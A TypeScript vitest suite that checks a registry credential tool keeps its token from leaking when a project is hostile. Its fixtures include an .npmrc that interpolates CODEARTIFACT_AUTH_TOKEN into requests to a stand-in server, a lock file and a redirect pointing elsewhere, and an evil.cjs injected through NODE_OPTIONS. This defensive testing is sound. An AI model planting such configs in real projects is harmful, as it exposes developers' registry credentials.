import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Workbench } from '@vouch/workbench';
import {
  hasJavascriptClients,
  type JavascriptClient,
  npmPackage,
  runJavascript,
} from '@vouch/workbench/javascript';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { at, canary, npmBench, setupArgs, url } from './bench.ts';

let bench: Workbench;
let other: Server;
/** Everything that the other server was told: addresses, headers, bodies. */
let heard: string;
let origin: string;

beforeEach(async () => {
  heard = '';
  other = createServer((request, response) => {
    heard += `${request.method} ${request.url}\n${request.rawHeaders.join('\n')}\n`;
    request.on('data', (data) => {
      heard += data;
    });
    response.writeHead(404, { 'content-type': 'application/json' }).end('{}');
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
  bench = await npmBench();
  bench.emulator.addPackage(at, { name: 'greeter', version: '1.0.0' });
  bench.env['NO_PROXY'] = '127.0.0.1';
});
afterEach(async () => {
  await bench.close();
  await new Promise((resolve) => other.close(resolve));
});

async function setUp(tool: string): Promise<void> {
  const store = tool === 'npm' ? ['--token-store', 'file'] : [];
  expect(await bench.vouch(...setupArgs(tool, ...store))).toMatchObject({ code: 0 });
  expect(await bench.vouch('login')).toMatchObject({ code: 0 });
}

const retries = { npm_config_fetch_retries: '0' };
const install = (client: JavascriptClient, cwd: string, args = ['install']) =>
  runJavascript(bench, client, args, { cwd, env: retries });

const clients = [
  ['npm12', 'npm'],
  ['npm10', 'npm'],
  ['pnpm12', 'pnpm'],
  ['yarn1', 'yarn1'],
  ['bun', 'bun'],
] as const;

describe.skipIf(!hasJavascriptClients)('a hostile project', () => {
  it.each(clients)('%s: variables in its .npmrc bring no token to another server', async (client, tool) => {
    await setUp(tool);
    const app = await bench.write('app', {
      ...npmPackage('app', { dependencies: { greeter: '^1.0.0', '@evil/x': '1.0.0' } }),
      '.npmrc': [
        `registry=${origin}/\${CODEARTIFACT_AUTH_TOKEN}/`,
        `@evil:registry=${origin}/`,
        `//${new URL(origin).host}/:_authToken=\${CODEARTIFACT_AUTH_TOKEN}`,
        '',
      ].join('\n'),
    });
    await install(client, app);
    expect(heard).not.toContain(canary);
    heard = '';
    const exec = ['exec', '--tool', tool, '--repository', 'my-repo', '--', 'sh', '-c'];
    const below = await bench.vouch(...exec, `cd "${app}" && npm install --fetch-retries=0; env`);
    expect(below.stdout).toContain('NPM_CONFIG_USERCONFIG=');
    expect(below.stdout).not.toContain(canary);
    expect(heard).not.toContain(canary);
  });

  it('npm: a lock file that points elsewhere, and a redirect, take no token along', async () => {
    await setUp('npm');
    const app = await bench.write('app', {
      ...npmPackage('app', { dependencies: { greeter: '^1.0.0' } }),
      'package-lock.json': JSON.stringify({
        name: 'app',
        version: '1.0.0',
        lockfileVersion: 3,
        packages: {
          '': { name: 'app', version: '1.0.0', dependencies: { greeter: '^1.0.0' } },
          'node_modules/greeter': { version: '1.0.0', resolved: `${origin}/greeter.tgz` },
        },
      }),
    });
    // npm 12 refuses such an address before it asks for it.
    await install('npm11', app, ['ci']);
    expect(heard).toContain('GET /greeter.tgz');
    bench.emulator.setFault({ kind: 'redirect', service: 'npm', location: `${origin}/stolen`, status: 302 });
    await install(
      'npm12',
      await bench.write('again', npmPackage('again', { dependencies: { greeter: '1' } })),
    );
    expect(heard).toContain('/stolen');
    expect(heard).not.toContain(canary);
    expect(heard.toLowerCase()).not.toContain('authorization');
  });

  it('node-options of a project do not reach the program that prints the token', async () => {
    await setUp('pnpm');
    const marker = join(bench.home, 'marker');
    const evil = `require('fs').appendFileSync(${JSON.stringify(marker)}, process.argv.join(' ') + '\\n')`;
    const app = await bench.write('app', {
      ...npmPackage('app', { dependencies: { greeter: '^1.0.0' } }),
      'evil.cjs': evil,
    });
    const options = { NODE_OPTIONS: `--require=${join(app, 'evil.cjs')}` };
    const done = await runJavascript(bench, 'pnpm12', ['install'], { cwd: app, env: options });
    expect(done).toMatchObject({ code: 0 });
    expect(existsSync(marker)).toBe(false);
  });

  it('names a project’s own registry and token at setup, and leaves its file alone', async () => {
    const text = `registry=https://elsewhere.example/\n${url.slice(6)}:_authToken=theirs\n`;
    const app = await bench.write('app', { ...npmPackage('app'), '.npmrc': text });
    const setup = await bench.run(process.execPath, [bench.vouchProgram, ...setupArgs('npm')], { cwd: app });
    expect(setup.stderr).toContain(`${app}/.npmrc:2 has its own ${url.slice(6)}:_authToken`);
    expect(setup.stderr).toContain('names another registry');
    expect(await bench.read('app/.npmrc')).toBe(text);
  });
});
